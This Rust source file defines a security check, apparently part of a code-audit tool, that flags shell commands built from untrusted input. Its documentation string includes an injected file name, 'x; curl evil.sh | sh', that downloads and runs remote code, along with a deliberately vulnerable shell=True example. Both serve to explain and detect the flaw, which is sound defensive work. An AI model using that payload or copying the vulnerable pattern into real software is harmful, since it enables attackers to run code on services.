use crate::code::support::risk_control;
use crate::prelude::*;
use vouch_code::FactKind;

pub struct NoShellInjection;

static META: ControlMeta = ControlMeta {
    id: "CODE011",
    slug: "no_shell_injection",
    title: "Commands are run without a shell built from input",
    area: Area::Security,
    severity: Severity::Critical,
    remediation: "Run the program directly with an argument list (`subprocess.run([\"convert\", path, out])`, \
                  `execFile(\"convert\", [path, out])`, `exec.Command(\"convert\", path, out)`, \
                  `Command::new(\"convert\").arg(path)`) so no shell parses the input. Validate arguments \
                  against an allow-list and put `--` before user-supplied file names.",
    references: &[
        "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
        "https://docs.python.org/3/library/subprocess.html#security-considerations",
        "https://nodejs.org/api/child_process.html#child_processexeccommand-options-callback",
        "https://cwe.mitre.org/data/definitions/78.html",
    ],
    concepts: &[
        "shell injection",
        "command injection",
        "OS command injection",
        "shell=True",
        "subprocess",
        "input validation",
    ],
    since: "0.1.0",
    doc: r#"## What it checks

Calls that hand a command line to a shell must not build it from non-constant values. The
control fails at `subprocess.*(..., shell=True)`, `os.system`, `os.popen` with an f-string,
`%`/`.format()` or concatenation; Node `child_process.exec`/`execSync` with a template literal or
concatenation; Go `exec.Command("sh", "-c", ...)` with `fmt.Sprintf` or `+`; Rust
`Command::new("sh").arg("-c").arg(format!(...))`; Java `Runtime.exec` of a concatenated string.

Commands run with an argument list and no shell, and constant command strings, are not
reported.

## Why it matters in production

When input reaches a shell, characters such as `;`, `|`, `$( )` and backticks start new
commands: a file name like `x; curl evil.sh | sh` runs the attacker's code with the service's
permissions and network access. Quoting by hand is fragile; not using a shell removes the
problem.

## Example

Bad:

```python
def thumbnail(path: str) -> None:
    subprocess.run(f"convert {path} -resize 200x200 /tmp/thumb.png", shell=True, check=True)
```

Good:

```python
def thumbnail(path: str) -> None:
    subprocess.run(
        ["convert", "--", path, "-resize", "200x200", "/tmp/thumb.png"], check=True
    )
```

## References

- OWASP OS Command Injection Defense Cheat Sheet
- Python documentation: subprocess security considerations
- Node.js documentation: child_process.exec
- CWE-78 OS Command Injection
"#,
};

impl Check for NoShellInjection {
    fn meta(&self) -> &'static ControlMeta {
        &META
    }

    fn run(&self, ws: &Workspace) -> Outcome {
        risk_control(
            ws,
            |kind| matches!(kind, FactKind::RiskShellInjection),
            |fact| {
                format!(
                    "a shell command is built from non-constant values ({}): run the program with an argument list instead",
                    fact.detail
                )
            },
            "no shell command built from non-constant values found",
        )
    }
}
